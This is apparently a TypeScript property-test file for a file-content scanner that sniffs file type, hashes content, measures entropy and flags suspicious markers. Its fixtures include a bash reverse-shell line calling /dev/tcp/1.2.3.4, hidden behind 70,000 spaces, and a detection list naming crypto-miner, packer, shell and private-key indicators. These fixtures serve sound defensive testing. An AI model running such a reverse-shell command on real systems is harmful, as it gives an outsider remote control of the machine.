import { createHash } from 'node:crypto';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { ContentScan } from './content-scan.js';
import { TextSearch } from './text-search.js';

function scanned(pieces: readonly Buffer[]) {
  const scan = new ContentScan();
  for (const piece of pieces) scan.feed(piece);
  return { sniff: scan.sniff(), sha256: scan.digest() };
}

/** The same bytes in pieces of these sizes, and what is left. */
function cut(bytes: Buffer, sizes: readonly number[]): Buffer[] {
  const pieces: Buffer[] = [];
  let at = 0;
  for (const size of sizes) {
    pieces.push(bytes.subarray(at, at + size));
    at += size;
  }
  return [...pieces, bytes.subarray(at)];
}

describe('several texts looked for at once', () => {
  const letter = fc.constantFrom('a', 'b', 'c');
  const text = fc.array(letter, { minLength: 2, maxLength: 12 }).map((letters) => letters.join(''));

  it('are found where each alone is found, and nowhere else', () => {
    fc.assert(
      fc.property(
        fc.array(text, { minLength: 1, maxLength: 8 }),
        fc.array(letter, { maxLength: 400 }),
        (texts, all) => {
          const bytes = Buffer.from(all.join(''), 'latin1');
          const found = new Set<number>();
          new TextSearch(texts).find(bytes, found);
          const alone = texts.flatMap((one, index) => (bytes.includes(one, 0, 'latin1') ? [index] : []));
          expect([...found].toSorted((a, b) => a - b)).toEqual(alone);
        },
      ),
      { numRuns: 500 },
    );
  });
});

describe('what a file is', () => {
  const beginning = fc.constantFrom('\x7fELF\x02\x01', '#!/bin/sh\n', '\x7fEL', 'stratum+tc', '');
  const mark = fc.constantFrom(
    'stratum+tcp://',
    'UPX!',
    'xmrig',
    '/dev/tcp/',
    'client-key-data:',
    '/rustc/',
    'PRIVATE KEY',
  );
  const part = fc.oneof(
    mark.map((one) => Buffer.from(one)),
    fc.uint8Array({ maxLength: 80 }).map((one) => Buffer.from(one)),
  );

  it('does not depend on the pieces in which it comes', () => {
    fc.assert(
      fc.property(
        beginning,
        fc.array(part, { maxLength: 12 }),
        fc.array(fc.nat(40), { maxLength: 30 }),
        (begin, parts, sizes) => {
          const bytes = Buffer.concat([Buffer.from(begin, 'latin1'), ...parts]);
          expect(scanned(cut(bytes, sizes))).toEqual(scanned([bytes]));
        },
      ),
    );
  });

  it('is hashed, told by its first bytes, and marked by what stands in it', () => {
    const bytes = Buffer.concat([
      Buffer.from('#!/bin/bash -e\n'),
      Buffer.alloc(70_000, 0x20),
      Buffer.from('bash -i >& /dev/tcp/1.2.3.4/1'),
    ]);
    expect(scanned(cut(bytes, [5, 70_012]))).toEqual({
      sniff: { kind: 'script', interpreter: '/bin/bash -e', marks: ['reverse-shell'] },
      sha256: createHash('sha256').update(bytes).digest('hex'),
    });
  });

  it('has an entropy where it is a program: of one byte none, of all alike eight bits', () => {
    const same = Buffer.concat([Buffer.from('\x7fELF', 'latin1'), Buffer.alloc(1 << 20)]);
    const all = Buffer.concat([
      Buffer.from('\x7fELF', 'latin1'),
      Buffer.from(Array.from({ length: 65_536 }, (_, at) => at & 255)),
    ]);
    expect(scanned([same]).sniff.entropyCentibits).toBe(0);
    // One byte at a time until it can be told.
    expect(scanned(cut(all, [1, 1, 1, 1])).sniff.entropyCentibits).toBe(800);
    expect(scanned([Buffer.from('text')]).sniff.entropyCentibits).toBeUndefined();
  });
});
